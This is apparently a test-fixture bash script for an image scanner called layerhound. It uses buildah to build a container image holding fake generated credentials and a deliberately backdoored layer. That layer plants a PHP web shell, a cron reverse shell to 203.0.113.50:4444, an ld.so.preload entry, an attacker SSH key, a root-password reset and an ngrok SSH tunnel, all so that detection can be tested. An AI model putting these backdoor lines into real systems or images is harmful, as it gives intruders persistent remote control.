#!/usr/bin/env bash
# Build a two-layer image with buildah (containers/storage computes the layer diffs and writes
# the whiteouts), push it as a docker-archive and an oci-archive, and list what `umoci unpack`
# makes of it: the oracle layerhound's merged view must equal.
#
#   bash tests/buildah/make-buildah-images.sh OUTDIR
#
# Writes OUTDIR/buildah.docker.tar, OUTDIR/buildah.oci.tar, OUTDIR/buildah.tree.tsv and
# OUTDIR/planted.txt (the values planted, one `name value` per line) and OUTDIR/seed.txt (the
# seed they were drawn from; set LAYERHOUND_TEST_SEED to draw the same).
# Needs: buildah (Debian package; no container runtime: only `from`, `mount`, `copy`,
# `config`, `commit` and `push` are used, with a private vfs store), skopeo, umoci, python3.
# Run as root (buildah mounts its own store).
set -euo pipefail

if [ $# -ne 1 ]; then
    echo "usage: $0 OUTDIR" >&2
    exit 2
fi
for tool in buildah skopeo umoci python3; do
    command -v "$tool" >/dev/null || { echo "$0: $tool not found (apt-get install -y buildah skopeo umoci)" >&2; exit 1; }
done
HERE=$(cd "$(dirname "$0")" && pwd)
mkdir -p "$1"
OUT=$(cd "$1" && pwd)
WORK=$(mktemp -d /tmp/layerhound-buildah.XXXXXX)
# A private store, so that nothing of the machine's containers is touched or left behind.
B=(buildah --root "$WORK/store" --runroot "$WORK/run" --storage-driver vfs)
cleanup() { "${B[@]}" rm --all >/dev/null 2>&1 || true; rm -rf "$WORK"; }
trap cleanup EXIT
export LC_ALL=C TZ=UTC
umask 022

# Random values in the shapes of real credentials: nothing here is anyone's secret. They come
# from one seed, printed and written to OUTDIR/seed.txt: LAYERHOUND_TEST_SEED=N replays a run.
SEED=${LAYERHOUND_TEST_SEED:-$(python3 -c 'import secrets; print(secrets.randbits(48))')}
echo "$0: seed $SEED (LAYERHOUND_TEST_SEED=$SEED replays these values)" >&2
printf '%s\n' "$SEED" >"$OUT/seed.txt"
read -r KEY_ID SECRET_KEY DB_PASSWORD STRIPE_KEY NGROK_TOKEN MYSQL_PASSWORD ROOT_PASSWORD SS_PASSWORD SSH_KEY_TAIL < <(python3 - "$SEED" <<'EOF'
import random, string, sys
draw = random.Random(int(sys.argv[1]))
def rand(n, alphabet):
    return "".join(draw.choice(alphabet) for _ in range(n))
alnum = string.ascii_uppercase + string.ascii_lowercase + string.digits
print(
    "AKIA" + rand(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
    rand(40, alnum + "/+"),
    rand(20, alnum),
    # Stripe's live keys now run past 100 characters; ngrok's are 27 + `_` + 21.
    "sk_live_51" + rand(99, alnum),
    "2" + rand(26, alnum) + "_" + rand(21, alnum),
    rand(18, alnum),
    rand(12, alnum),
    rand(16, alnum),
    rand(43, alnum),
)
EOF
)
printf 'aws_key_id %s\naws_secret %s\ndb_password %s\nstripe_key %s\nngrok_token %s\nmysql_password %s\n' \
    "$KEY_ID" "$SECRET_KEY" "$DB_PASSWORD" "$STRIPE_KEY" "$NGROK_TOKEN" "$MYSQL_PASSWORD" >"$OUT/planted.txt"

# layer 0: an application tree copied in
R="$WORK/rootfs"
mkdir -p "$R/app/config" "$R/etc" "$R/opt/plugins" "$R/var/www/html" "$R/usr/share/doc/awscli" "$R/root"
printf 'AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s\n' "$KEY_ID" "$SECRET_KEY" >"$R/app/.env"
printf 'production:\n  url: postgres://app:%s@db.internal:5432/app\n' "$DB_PASSWORD" >"$R/app/database.yml"
printf '{\n  "payments": {"provider": "stripe", "secretKey": "%s"}\n}\n' "$STRIPE_KEY" >"$R/app/config/production.json"
printf 'root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n' >"$R/etc/passwd"
printf '<?php echo "status: ok"; ?>\n' >"$R/var/www/html/status.php"
printf 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' \
    >"$R/usr/share/doc/awscli/config.example"
for p in a b c; do printf 'plugin %s\n' "$p" >"$R/opt/plugins/$p.conf"; done
ln -s ../app/.env "$R/root/app.env"
ctr=$("${B[@]}" from scratch)
"${B[@]}" copy "$ctr" "$R" / >/dev/null
"${B[@]}" config --workingdir /app --entrypoint '["/app/run.sh"]' "$ctr"
"${B[@]}" commit -q "$ctr" base >/dev/null
"${B[@]}" rm "$ctr" >/dev/null

# layer 1: changes made in the mounted container; buildah diffs them into whiteouts
ctr=$("${B[@]}" from base)
M=$("${B[@]}" mount "$ctr")
rm "$M/app/.env"
rm -r "$M/opt/plugins"
mkdir -p "$M/opt/plugins" "$M/etc/cron.d" "$M/root/.ssh" "$M/root/.config/ngrok"
printf 'version: "2"\nauthtoken: %s\ntunnels:\n  ssh:\n    proto: tcp\n    addr: 22\n' "$NGROK_TOKEN" >"$M/root/.config/ngrok/ngrok.yml"
printf 'plugin new\n' >"$M/opt/plugins/new.conf"
printf '<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>\n' >"$M/var/www/html/status.php"
printf '*/5 * * * * root bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\n' >"$M/etc/cron.d/sync"
printf '/usr/local/lib/libsysupdate.so\n' >"$M/etc/ld.so.preload"
printf '#!/bin/sh\necho "root:%s" | chpasswd\nexec "$@"\n' "$ROOT_PASSWORD" >"$M/app/run.sh"
mkdir -p "$M/etc/shadowsocks-libev"
printf '{\n  "server": "203.0.113.61",\n  "server_port": 8388,\n  "password": "%s",\n  "method": "chacha20-ietf-poly1305"\n}\n' \
    "$SS_PASSWORD" >"$M/etc/shadowsocks-libev/config.json"
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s attacker@build\n' "$SSH_KEY_TAIL" >"$M/root/.ssh/authorized_keys"
"${B[@]}" umount "$ctr" >/dev/null
"${B[@]}" config --env HTTPS_PROXY=http://198.51.100.7:3128 \
    --cmd "[\"sh\", \"-c\", \"mysql -h db -u shop -p$MYSQL_PASSWORD shop < /app/init.sql\"]" "$ctr"
"${B[@]}" commit -q "$ctr" backdoored >/dev/null

rm -f "$OUT/buildah.docker.tar" "$OUT/buildah.oci.tar"
"${B[@]}" push -q backdoored "docker-archive:$OUT/buildah.docker.tar:buildah:latest"
"${B[@]}" push -q backdoored "oci-archive:$OUT/buildah.oci.tar:buildah"

# the oracle: umoci's own merged view of the pushed image
skopeo copy -q "oci-archive:$OUT/buildah.oci.tar" "oci:$WORK/layout:buildah"
umoci unpack --image "$WORK/layout:buildah" "$WORK/bundle" >/dev/null
python3 "$HERE/../oracle/tree.py" "$WORK/bundle/rootfs" >"$OUT/buildah.tree.tsv"
